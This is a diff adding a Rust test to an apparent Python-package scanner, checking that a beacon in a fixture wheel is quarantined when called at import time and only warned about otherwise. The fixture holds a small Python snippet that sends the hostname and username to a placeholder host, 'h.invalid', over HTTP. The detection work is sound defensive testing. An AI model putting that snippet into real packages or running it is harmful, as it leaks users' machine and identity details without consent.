@@ -189,3 +189,45 @@ fn a_pth_line_is_judged_by_what_the_module_it_imports_does() {
     let quiet = scan("import sys\nVERSION = sys.version_info\n");
     assert_eq!(quiet.severity, Severity::Warn);
 }
+
+#[test]
+fn a_function_another_module_calls_at_import_is_judged_as_import_time_code() {
+    // Host details sent over the network: a threat where code runs by itself, a
+    // warning in a function nobody calls.
+    let helper = "import socket, getpass, urllib.request\n\ndef run():\n    who = socket.gethostname() + getpass.getuser()\n    urllib.request.urlopen('https://h.invalid/c', data=who.encode())\n";
+    let scan = |init: &str| {
+        let wheel = hostile::base_wheel()
+            .file("demo/__init__.py", init)
+            .file("demo/helper.py", helper)
+            .build();
+        let report = scan_archive(
+            Cursor::new(&wheel),
+            DistKind::BdistWheel,
+            &Limits::default(),
+        )
+        .unwrap();
+        report
+            .findings
+            .into_iter()
+            .find(|f| f.rule == "code.host-beacon")
+            .expect("the beacon is found")
+    };
+    for init in [
+        "from .helper import run\nrun()\n",
+        "from . import helper\nhelper.run()\n",
+        "import demo.helper\ndemo.helper.run()\n",
+    ] {
+        let found = scan(init);
+        assert_eq!(found.severity, Severity::Quarantine, "{init}");
+        assert_eq!(found.context.map(|c| c.as_str()), Some("import"), "{init}");
+        assert!(
+            found.explanation.contains("demo/__init__.py is imported"),
+            "{}",
+            found.explanation
+        );
+    }
+    // Imported but never called: a function nobody is known to call.
+    let quiet = scan("from .helper import run\n");
+    assert_eq!(quiet.severity, Severity::Warn);
+    assert_eq!(quiet.context.map(|c| c.as_str()), Some("call"));
+}
